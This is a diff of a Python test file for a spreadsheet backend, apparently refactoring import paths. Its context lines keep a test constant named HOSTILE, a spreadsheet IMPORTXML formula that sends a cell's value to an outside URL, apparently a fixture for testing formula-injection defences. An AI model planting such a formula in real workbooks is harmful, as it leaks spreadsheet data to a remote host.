@@ -15,10 +15,10 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-import sheets.xlsx
-from sheets.batch import Batch, NewTab
-from sheets.xlsx import XlsxBackend
-from tovholder.errors import WorkbookError, WorkbookLocked
+import tovholder.sheets.xlsx
+from tovholder.core.errors import WorkbookError, WorkbookLocked
+from tovholder.sheets.batch import Batch, NewTab
+from tovholder.sheets.xlsx import XlsxBackend
 
 DATA = Path(__file__).parent / "data" / "xlsx"
 HOSTILE = '=IMPORTXML("https://x/?"&A1)'
@@ -316,7 +316,7 @@ def test_permission_denied_is_a_workbook_error(tmp_path: Path,
     def denied(*args: object, **kwargs: object) -> None:
         raise PermissionError(13, "Permission denied")
 
-    monkeypatch.setattr(sheets.xlsx, "load_workbook", denied)
+    monkeypatch.setattr(tovholder.sheets.xlsx, "load_workbook", denied)
     with pytest.raises(WorkbookError) as err:
         XlsxBackend(_members(tmp_path)).read()
     assert err.value.code == "workbook.permission"
